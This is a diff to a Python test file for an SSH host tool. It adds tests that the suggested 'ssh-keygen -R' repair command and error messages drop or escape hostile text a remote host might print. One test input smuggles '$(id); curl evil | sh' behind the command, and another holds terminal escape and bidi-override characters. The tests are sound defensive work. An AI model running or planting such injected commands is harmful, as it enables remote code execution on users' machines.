@@ -18,7 +18,7 @@ from ssh_hosts import Rack
 from oarsman.engines.hosts.ssh import client
 from oarsman.engines.hosts.ssh.client import Answer, Ssh, on_all, trouble
 from oarsman.engines.hosts.ssh.inventory import Inventory, SshHost
-from oarsman.engines.hosts.ssh.trouble import NOT_STARTED, TIMED_OUT
+from oarsman.engines.hosts.ssh.trouble import NOT_STARTED, TIMED_OUT, last_line
 
 PLAIN = SshHost(name="node1")
 FULL = SshHost(name="node1", address="10.0.0.1", user="me", port=2222, jump="me@gate:22", key="keys/rack")
@@ -178,6 +178,24 @@ def test_complaints_of_ssh_become_one_sentence_with_the_host(kind: str, stderr: 
     assert found.message.startswith("node1 (10.0.0.1): ")
     assert "\n" not in str(found)
     assert said in str(found)
+
+
+@pytest.mark.parametrize("file", ["/home/me/.ssh/known_hosts", "'/home/me/a b'", '"/home/me/.ssh/known_hosts"'])
+def test_the_command_that_is_to_be_typed_has_nothing_of_what_a_host_wrote_behind_it(file: str) -> None:
+    said = f"{CHANGED}  ssh-keygen -f {file} -R node1$(id); curl evil | sh\n"
+    assert "evil" not in trouble(FULL, 255, said).hint
+    assert "$(id)" not in trouble(FULL, 255, said).hint
+
+
+def test_the_command_that_ssh_says_is_what_is_to_be_typed() -> None:
+    said = f'{CHANGED}  ssh-keygen -f "/home/me/a b" -R "[10.0.0.1]:2222"\n'
+    assert "ssh-keygen -f '/home/me/a b' -R '[10.0.0.1]:2222'" in trouble(FULL, 255, said).hint
+
+
+def test_nothing_that_a_host_says_moves_a_cursor() -> None:
+    found = trouble(FULL, 1, "\x1b[2J\x1b]0;title\x07gone\x9b\u202e")
+    assert "\\x1b[2J\\x1b]0;title\\x07gone\\x9b\\u202e" in found.message
+    assert last_line("\x1b[2Jgone\n") == "\\x1b[2Jgone"
 
 
 TRY = ["Host key verification failed.", "Unable to negotiate with 10.0.0.1 port 22", GATE_GONE + "UNKNOWN port 65535"]
